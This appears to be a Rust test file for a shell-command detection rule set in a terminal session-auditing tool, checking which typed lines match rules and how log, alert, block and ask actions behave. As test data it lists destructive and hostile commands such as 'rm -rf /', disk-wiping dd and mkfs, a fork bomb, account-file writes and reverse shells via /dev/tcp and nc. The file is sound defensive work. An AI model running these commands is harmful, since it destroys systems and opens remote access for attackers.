use std::sync::LazyLock;

use bytes::Bytes;
use longshore_core::{ExecRequest, Identity, TerminalSize, WorkloadId};

use super::*;
use crate::session::{Launch, SessionOrigin};

fn names(line: &str) -> Vec<String> {
    static RULES: LazyLock<RuleSet> = LazyLock::new(|| RuleSet::new(Rule::standard()).unwrap());
    RULES
        .meets(line)
        .into_iter()
        .map(|(name, _)| name.to_owned())
        .collect()
}

#[track_caller]
fn hit(rule: &str, lines: &[&str]) {
    for line in lines {
        assert_eq!(names(line), [rule], "{line}");
    }
}

#[track_caller]
fn miss(lines: &[&str]) {
    for line in lines {
        assert_eq!(names(line), [""; 0], "{line}");
    }
}

#[test]
fn what_the_standard_rules_meet() {
    assert_eq!(Rule::standard().len(), 20);
    hit("vipw", &["vipw", "sudo vipw", "/usr/sbin/vipw", "ls; vigr"]);
    hit(
        "chmod-777",
        &[
            "chmod 777 /srv",
            "chmod -R 0777 .",
            "x=1 chmod  777 a",
            "chmod a+rwx f",
        ],
    );
    hit(
        "useradd",
        &["useradd eve", "sudo -n adduser eve", "true && groupadd x"],
    );
    hit(
        "nmap",
        &[
            "nmap 10.0.0.0/8",
            "  nmap",
            "echo $(nmap -sP x)",
            "nohup nmap x &",
        ],
    );
    hit(
        "history-clear",
        &["history -c", "history  -cw", "history -a -c"],
    );
    hit(
        "rm-root",
        &[
            "rm -rf /",
            "rm -fr /",
            "rm -r -f /",
            "rm -f -r //",
            "rm --recursive --force /*",
            "sudo rm -Rf /etc",
            "cd / && rm -rf --no-preserve-root /",
            "rm -rf x /usr/",
            "\\rm -rf /",
            "/bin/rm -rf / tmp",
            "rm -rf /var/*",
            "if true; then rm -rf /; fi",
        ],
    );
    hit(
        "halt",
        &[
            "halt",
            "/sbin/reboot",
            "shutdown -h now",
            "sleep 1; poweroff",
            "(reboot)",
        ],
    );
    hit("exec", &["exec sh", "exec", "test x || exec bash -l"]);
    hit("userdel", &["userdel bob", "usermod -aG root bob"]);
    hit("passwd", &["passwd", "passwd root", "echo a:b | chpasswd"]);
    hit("visudo", &["visudo", "sudo visudo -f x"]);
    hit("init", &["init 0", "telinit 6"]);
    hit("mkfs", &["mkfs.ext4 /dev/sda1", "mkfs -t xfs /dev/vdb"]);
    hit(
        "dd-device",
        &["dd if=/dev/zero of=/dev/sda bs=1M", "dd of=/dev/nvme0n1"],
    );
    hit(
        "kill-all",
        &["kill -9 -1", "kill -- -1", "killall5", "kill -KILL -- -1"],
    );
    hit(
        "iptables-flush",
        &[
            "iptables -F",
            "ip6tables -t nat --flush",
            "nft flush ruleset",
        ],
    );
    hit("crontab-remove", &["crontab -r", "crontab -u bob -r"]);
    hit(
        "write-accounts",
        &["echo x >> /etc/passwd", "cat a >/etc/sudoers"],
    );
    hit(
        "reverse-shell",
        &[
            "bash -i >& /dev/tcp/1.2.3.4/99 0>&1",
            "nc -e /bin/sh h 1",
            "nc h 1 -c bash",
        ],
    );
    hit("fork-bomb", &[":(){ :|:& };:", ": ( ) { : | : & } ; :"]);
}

#[test]
fn what_they_do_not_meet() {
    miss(&[
        "",
        "ls",
        "cat vipw.txt",
        "man vipw",
        "echo halt",
        "halted",
        "asphalt",
        "./halt.sh",
        "grep -r halt .",
        "docker exec web sh",
        "execute",
        "find . -exec ls {} +",
        "echo exec",
        "kubectl exec -it pod -- sh",
        "chmod 7770 x",
        "chmod 755 x",
        "chmod u+x 777",
        "useradds",
        "git commit -m 'useradd is gone'",
        "history",
        "history 20",
        "history | grep c",
        "rm -rf build",
        "rm -rf ./",
        "rm -rf /srv/app/cache",
        "rm -rf /tmp/x",
        "rm -f /etc/motd",
        "rm -r /srv/bob/x",
        "rm file",
        "ls /; rm -rf x",
        "nmapper",
        "passwd.sh",
        "cat /etc/passwd",
        "ls > /etc/passwords",
        "init 3",
        "initctl list",
        "dd if=/dev/sda of=disk.img",
        "dd if=a of=/dev/null",
        "kill -1 4711",
        "kill -1",
        "kill -9 1",
        "iptables -L",
        "crontab -l",
        "crontab -e",
        "nc -l 80",
        "shutdown_hook",
        "reboots",
        "systemctl status halt.target",
        "vim exec.c",
        "rmdir /etc",
    ]);
}

fn judge(action: RuleAction) -> Box<dyn InputJudge> {
    let rules = RuleSet::new(vec![Rule::command("halt", "halt", action)]).unwrap();
    begin(&rules).unwrap()
}

fn begin(rules: &RuleSet) -> Option<Box<dyn InputJudge>> {
    let request = ExecRequest::new(WorkloadId::new("web").unwrap(), ["sh"]);
    let launch = Launch::Exec(request.with_tty(TerminalSize::default()));
    let who = Identity::new("alice", "token");
    rules.begin(&SessionAbout::new(who, &launch, SessionOrigin::new()))
}

/// What is typed, what passes, how many hits.
#[track_caller]
fn check(judge: &mut dyn InputJudge, steps: &[(&str, &str, usize)]) {
    for (typed, passes, hits) in steps {
        let judgement = judge.judge(Bytes::copy_from_slice(typed.as_bytes()));
        let pass = String::from_utf8_lossy(&judgement.pass).into_owned();
        assert_eq!(
            (pass.as_str(), judgement.hits.len()),
            (*passes, *hits),
            "{typed:?}"
        );
        assert!(judgement.end.is_none());
    }
}

#[test]
fn log_and_alert_let_everything_through() {
    for action in [RuleAction::Log, RuleAction::Alert] {
        let mut judge = judge(action);
        check(
            &mut *judge,
            &[
                ("ha", "ha", 0),
                ("lt", "lt", 0),
                ("\r", "\r", 1),
                ("ls\r", "ls\r", 0),
            ],
        );
        check(
            &mut *judge,
            &[
                ("a\rhalt\rhalt\n", "a\rhalt\rhalt\n", 2),
                ("hal\u{7f}\u{7f}x\r", "hal\u{7f}\u{7f}x\r", 0),
            ],
        );
    }
}

#[test]
fn a_blocked_line_is_never_ended() {
    let mut judge = judge(RuleAction::Block);
    check(
        &mut *judge,
        &[("h", "h", 0), ("alt", "alt", 0), ("\r", "\u{15}", 1)],
    );
    // A program that does not know Ctrl-U still has the line.
    check(
        &mut *judge,
        &[
            ("\r", "\u{15}", 1),
            ("halt\r", "halt\u{15}", 1),
            ("ls\r", "ls\r", 0),
            ("\r", "\r", 0),
        ],
    );
    // What was pasted behind it goes with it.
    check(
        &mut *judge,
        &[("ls\rhalt\rls\r", "ls\rhalt\u{15}", 1), ("x\r", "x\r", 0)],
    );
    check(
        &mut *judge,
        &[("halt\r", "halt\u{15}", 1), ("\nls\r", "ls\r", 0)],
    );
    check(
        &mut *judge,
        &[("halt\u{f}", "halt\u{15}", 1), ("ls\n", "ls\n", 0)],
    );
}

#[test]
fn a_line_that_is_asked_about_needs_enter_twice() {
    let mut judge = judge(RuleAction::Ask);
    check(
        &mut *judge,
        &[("halt\r", "halt", 1), ("\r", "\r", 0), ("ls\r", "ls\r", 0)],
    );
    check(&mut *judge, &[("halt\r", "halt", 1), ("x\r", "x\r", 0)]);
    check(
        &mut *judge,
        &[
            ("halt\r", "halt", 1),
            ("\u{3}", "\u{3}", 0),
            ("\r", "\r", 0),
        ],
    );
    check(&mut *judge, &[("halt\r\n", "halt", 1), ("\r", "\r", 0)]);
    check(
        &mut *judge,
        &[("halt\r", "halt", 1), ("\n", "", 0), ("\r", "\r", 0)],
    );
}

#[test]
fn a_block_may_end_the_session() {
    let rules = RuleSet::new(vec![Rule::command("halt", "halt", RuleAction::Block)]).unwrap();
    let mut judge = begin(&rules.ending_sessions()).unwrap();
    let judgement = judge.judge(Bytes::from_static(b"halt\rx"));
    assert_eq!(judgement.pass, "halt");
    assert!(judgement.end.is_some());
}

#[test]
fn long_lines_are_looked_at_and_bounded() {
    let mut judge = judge(RuleAction::Block);
    let long = format!("echo {}; halt", "x".repeat(10_000));
    check(
        &mut *judge,
        &[(&long, &long, 0), ("\r", "\u{15}", 1), ("ls\r", "ls\r", 0)],
    );
    for _ in 0..100 {
        let filler = "y".repeat(10_000);
        check(&mut *judge, &[(&filler, &filler, 0)]);
    }
    check(&mut *judge, &[("\r", "\r", 0)]);
}

#[test]
fn bad_rules_are_refused_by_name() {
    for pattern in ["(", "a)|(b", "x{1000}{1000}{1000}"] {
        let rules = vec![Rule::command("mine", pattern, RuleAction::Log)];
        let error = RuleSet::new(rules).unwrap_err();
        assert!(error.message().contains("mine"), "{error}");
    }
    assert!(
        serde_json::from_str::<Rule>(r#"{"name":"a","pattern":"b","action":"explode"}"#).is_err()
    );
    assert!(
        serde_json::from_str::<Rule>(r#"{"name":"a","pattern":"b","action":"log","x":1}"#).is_err()
    );
}
